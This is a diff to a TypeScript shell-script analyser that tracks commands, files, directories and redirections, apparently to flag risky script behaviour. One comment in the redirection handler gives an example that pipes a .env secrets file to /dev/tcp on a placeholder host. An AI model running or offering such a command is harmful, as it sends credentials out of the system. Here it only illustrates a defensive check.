@@ -13,12 +13,15 @@ import { assertNever } from "../model/assert-never.js";
 import type { Call, Stdin } from "../model/call.js";
 import { evaluate } from "./arithmetic.js";
 import { runCase, runIf } from "./branch.js";
-import { forked, perhaps } from "./chain.js";
+import { forked, noteRedefined, perhaps } from "./chain.js";
 import { runCommand } from "./command.js";
 import { walkTest } from "./condition.js";
 import { closeDescriptors, openDescriptor } from "./descriptor.js";
-import { assumeOutcome, settleDirectory } from "./directory.js";
+import { assumeOutcome, negateDirectory, settleDirectory } from "./directory.js";
 import { emitBare, finish } from "./emit.js";
+import { exportRoutine } from "./exported.js";
+import { perhapsWritten } from "./files.js";
+import { noteHookFunction } from "./hook.js";
 import { runArithmeticFor, runFor, runSelect, runWhile } from "./loop.js";
 import { isKeptBack, joinOrigins } from "./origin.js";
 import { done, type Outcome, type Place, spanOf, unsure } from "./place.js";
@@ -107,7 +110,9 @@ function runJob(place: Place, state: State, node: PipelineNode | AndOr): Outcome
   job.input = { stdin: { kind: "none" } };
   runNode({ ...forked(place), wanted: false, loop: undefined, routine: undefined }, job, node);
   runTraps(place, job, true);
-  mergeTables(state.files, job.files, (path) => unknown(path, "is written in the background"));
+  mergeTables(state.files, job.files, (path, a, b) =>
+    perhapsWritten(path, "is written in the background", a, b),
+  );
   mergeTables(state.folders, job.folders, () => true);
   state.touched ??= job.touched;
   return done;
@@ -147,8 +152,7 @@ function runPipeline(place: Place, state: State, node: Pipeline): Outcome {
   });
   if (!negated) return outcome;
   // `! cd x && …` goes on where the shell is when the cd failed.
-  const { cwd, otherwise } = state;
-  if (otherwise !== undefined) Object.assign(state, { cwd: otherwise, otherwise: cwd });
+  negateDirectory(state);
   return { ...outcome, status: opposite(outcome.status) };
 }
 
@@ -177,7 +181,7 @@ function runAndOr(place: Place, state: State, node: AndOr): Outcome {
     const isReached = !state.ended && (operator === "&&" ? failed === undefined : !worked);
     const sure = place.certain && isReached;
     const here = isReached ? place : perhaps(place);
-    if (!runs) {
+    if (!runs || (state.ended && operator === "&&")) {
       // Never reached as far as can be told; its commands are shown all the same.
       runNode({ ...perhaps(here), loop: undefined, routine: undefined }, copyState(state), command);
       return;
@@ -220,12 +224,11 @@ function runSubshell(place: Place, state: State, body: CompoundList): Outcome {
 
 function define(place: Place, state: State, node: FunctionNode): Outcome {
   const name = node.name.value;
-  setEntry(state.routines, name, { bodies: [{ node: node.body, span: place.span }], perhaps: false });
-  if (name === "command_not_found_handle") {
-    const aside = copyState(state);
-    aside.positional = [unknown("$@", "is the name of a missing command", "", true)];
-    runNode({ ...perhaps(place), depth: place.depth + 1 }, aside, node.body);
-  }
+  const body = { node: node.body, span: place.span };
+  noteRedefined(place, name);
+  setEntry(state.routines, name, { bodies: [body], perhaps: false });
+  if (state.options.has("allexport")) exportRoutine(place, state, name);
+  noteHookFunction(place, state, name, body);
   return done;
 }
 
@@ -248,8 +251,8 @@ function runCoproc(place: Place, state: State, node: Coproc): Outcome {
 const coprocessOutput = 160;
 
 function runRedirected(place: Place, state: State, node: Redirected): Outcome {
+  const { calls, made, substitutions } = place.run;
   const plumbing = expandRedirections(place, state, node.redirects);
-  const { calls, made } = place.run;
   const mark = calls.length;
   emitBare(place, state, plumbing, spanOf(place, node));
   const bare = calls[mark];
@@ -259,6 +262,7 @@ function runRedirected(place: Place, state: State, node: Redirected): Outcome {
   const outcome = runNode({ ...place, wanted }, state, node.command);
   state.input = input;
   closeDescriptors(state, plumbing.before);
+  place.run.substitutions = substitutions;
   // `{ cat .env; date; } > /dev/tcp/host/port`: what went through is known only now.
   if (bare !== undefined && isKeptBack(outcome.origin) && calls[mark] === bare) {
     const through: Call = { ...bare, stdin: { kind: "unknown", reason: outcome.origin } };
